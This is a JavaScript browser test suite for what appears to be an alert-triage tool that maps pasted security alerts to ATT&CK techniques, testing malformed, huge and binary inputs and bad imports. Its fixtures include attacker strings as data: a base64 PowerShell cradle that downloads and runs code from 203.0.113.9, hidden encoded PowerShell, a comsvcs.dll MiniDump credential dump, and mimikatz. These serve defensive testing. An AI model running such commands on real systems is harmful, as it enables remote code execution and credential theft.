// Anything can be pasted or dropped: there is a result or a clear message, and nothing typed is lost.

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, test } from 'node:test';
import { byId, importRecords, openPage, records, retrieve, startBrowser, untilNotice, untilReady } from './browser.mjs';
import { startStack } from './stack.mjs';

let stack, browser, page;
before(async () => {
  stack = await startStack();
  browser = await startBrowser();
  page = await openPage(browser.context, stack.origin);
});
after(async () => {
  await browser?.close();
  await stack?.stop();
});

// The page answers, with techniques or with words, and still works.
async function answers() {
  await byId(page, 'find').click();
  const answer = '[data-testid="technique"], [data-testid="error"], .notes li';
  await page.locator(answer).first().waitFor({ timeout: 60_000 });
  const techniques = await byId(page, 'technique').count();
  const notices = await page.locator('[data-testid="error"], .notes li').allTextContents();
  assert.ok(techniques > 0 || notices.some((text) => text.trim().length > 10), 'a result or a message');
  return { techniques, notices };
}

async function startAnew() {
  await page.reload();
  await untilReady(page);
}

async function choose(name, bytes) {
  await startAnew();
  await byId(page, 'file-input').setInputFiles({ name, mimeType: 'application/octet-stream', buffer: bytes });
}

async function stillWorks() {
  assert.ok((await retrieve(page, 1)).includes('T1059.001'));
  assert.deepEqual(page.faults, []);
}

const typed = {
  'control characters': 'powershell.exe\u0000\u0001\u0007\u001b[31m -enc \u0000 SQBFAFgA whoami /all',
  'text that runs right to left': 'user opened \u202egpj.exe\u202c from \u2067\u05d0\u05d1\u2069 mail, cmd.exe spawned',
  'broken JSON': '{"event": {"process": "rundll32.exe", "args": ["comsvcs.dll, MiniDump 624',
  'deeply nested JSON': `${'['.repeat(20_000)}"mimikatz"${']'.repeat(20_000)}`,
  'only base64': Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")', 'utf16le').toString('base64'),
  'one very long word': 'A'.repeat(100_000),
  'odd letters': '\ufeff\ufffd\u{1f980}\u0301\u0301\u0301 z\u0336a\u0336l\u0336g\u0336o\u0336 schtasks /create',
};

for (const [name, text] of Object.entries(typed)) {
  test(name, async () => {
    await startAnew();
    await byId(page, 'alert-input').fill(text);
    await answers();
    // A text box changes line ends and nothing else; NUL is dropped by no browser we know.
    assert.equal(await byId(page, 'alert-input').inputValue(), text, 'what was typed is still there');
    await stillWorks();
  });
}

test('an empty alert', async () => {
  await startAnew();
  for (const empty of ['', ' \n\t ']) {
    await byId(page, 'alert-input').fill(empty);
    await byId(page, 'find').click();
    const found = await untilNotice(page, 'invalid_argument');
    assert.match(await found.textContent(), /paste|sample/i);
  }
  await stillWorks();
});

test('a log of 5,000 lines', async () => {
  const line = (number) => `May 19 04:02:${number % 60} host sshd[${number}]: Failed password for root from 203.0.113.${number % 255} port 22 ssh2\n`;
  await choose('auth.log', Buffer.from(Array.from({ length: 5_000 }, (_, number) => line(number)).join('')));
  const { techniques } = await answers();
  assert.ok(techniques > 0);
  await stillWorks();
});

test('a file of 10 MB', async () => {
  const line = '{"process":"powershell.exe","commandline":"-nop -w hidden -enc SQBFAFgA","host":"ws-1"}\n';
  await choose('export.ndjson', Buffer.from(line.repeat(Math.ceil(10_000_000 / line.length))));
  await answers();
  await stillWorks();
});

test('a file of 10 MB in one line', async () => {
  await choose('blob.json', Buffer.from(`{"process":"powershell.exe","data":"${'x'.repeat(10_000_000)}"}`));
  await answers();
  await stillWorks();
});

test('a file that is no text', async () => {
  await startAnew();
  await byId(page, 'alert-input').fill('typed before the file was dropped');
  const bytes = Buffer.concat([Buffer.from('MZ\x90\0'), randomBytes(50_000)]);
  await byId(page, 'file-input').setInputFiles({ name: 'evil.exe', mimeType: 'application/octet-stream', buffer: bytes });
  const found = await untilNotice(page, 'file_rejected');
  assert.match(await found.textContent(), /evil\.exe/);
  assert.equal(await byId(page, 'alert-input').inputValue(), 'typed before the file was dropped');
  await stillWorks();
});

test('a draft survives a reload', async () => {
  await byId(page, 'alert-input').fill('half an alert');
  await page.reload();
  assert.equal(await byId(page, 'alert-input').inputValue(), 'half an alert');
});

test('an import that cannot be used changes nothing and says why', async () => {
  await retrieve(page, 1);
  await byId(page, 'triage').click();
  await byId(page, 'verdict').waitFor();
  const kept = await records(page);
  const good = { format: 'soc-copilot-export', schema_version: 2, exported_at: '2026-01-01T00:00:00Z', triages: [], feedback: [] };
  const record = { schema_version: 2, triage_id: 'x', created_at: '2026-01-01T00:00:00Z', alert_text: 'a', agent_verdict: 'HIGH', analyst_verdict: 'LOW', analyst_correct: false, analyst_notes: '', matched_techniques: [], corrected_techniques: [], confidence: 0.5, model: 'm', attack_version: '18.1' };
  const bad = {
    'not JSON': '{"format": "soc-copilot-export", ',
    'no export': '{"hello": 1}',
    newer: JSON.stringify({ ...good, schema_version: 4 }),
    'a poisoned record after a good one': JSON.stringify({ ...good, feedback: [record, { ...record, triage_id: 'y', confidence: 7 }] }),
    'a verdict that does not exist': JSON.stringify({ ...good, feedback: [{ ...record, analyst_verdict: 'WORST' }] }),
    'no text': Buffer.from([0xff, 0xfe, 0x00, 0x80]),
  };
  for (const [name, text] of Object.entries(bad)) {
    await importRecords(page, text);
    const found = await untilNotice(page, 'import_rejected');
    assert.match(await found.textContent(), name === 'newer' ? /newer/i : /\w{5}/);
    assert.deepEqual(await records(page), kept, name);
    await startAnew();
  }
  await byId(page, 'nav-triage').click();
  await stillWorks();
});
